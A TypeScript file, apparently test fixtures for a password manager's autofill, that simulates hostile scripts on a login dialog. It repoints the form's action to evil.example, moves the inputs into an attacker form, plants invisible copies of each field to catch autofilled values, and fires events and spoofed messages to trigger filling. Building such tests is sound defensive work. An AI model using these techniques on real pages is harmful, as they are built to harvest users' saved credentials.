// What scripts of Emedgene's page, or of somebody in it, may do to its form: each function runs in the page itself, and
// does its work again after every change of the page.

/** The form would send elsewhere. */
export function sendElsewhere(): void {
  document.querySelector('[role="dialog"] form')?.setAttribute('action', 'https://evil.example/');
}

/** The boxes stand in the form and belong to another one. */
export function adoptBoxes(): void {
  if (!document.querySelector('#theirs')) {
    const form = Object.assign(document.createElement('form'), {
      id: 'theirs',
      action: 'https://evil.example/',
    });
    document.body.append(form);
  }
  for (const box of document.querySelectorAll('[role="dialog"] input:not([form])')) {
    box.setAttribute('form', 'theirs');
  }
}

/** Every box has copies that nobody sees. */
export function addTwins(): void {
  const looks = [
    ...['opacity:0', 'visibility:hidden', 'display:none', 'position:fixed;left:-9999px;width:300px'],
    'clip-path:inset(50%);width:1px;height:1px;overflow:hidden',
  ];
  for (const box of document.querySelectorAll('[role="dialog"] .MuiTextField-root:not(.twin)')) {
    if (box.nextElementSibling?.matches('.twin') || !box.querySelector('input[type]')) continue;
    for (const look of looks) {
      const twin = box.cloneNode(true) as HTMLElement;
      twin.classList.add('twin');
      twin.style.cssText = look;
      for (const part of twin.querySelectorAll('[id]')) part.id += look;
      for (const label of twin.querySelectorAll('label')) label.htmlFor += look;
      box.after(twin);
    }
  }
}

/** Everything that makes a password manager fill, and every message our own script might listen for. */
export function prod(): void {
  for (const box of document.querySelectorAll('input,textarea')) {
    (box as HTMLElement).focus();
    for (const type of ['focus', 'focusin', 'click', 'keydown', 'animationstart', 'autocomplete', 'change'])
      box.dispatchEvent(new Event(type, { bubbles: true }));
  }
  for (const kind of ['fill', 'look', 'push']) {
    window.postMessage({ kind, origin: location.origin, types: ['SFTP'], values: [] }, '*');
    document.dispatchEvent(new CustomEvent(kind, { detail: { kind } }));
  }
}
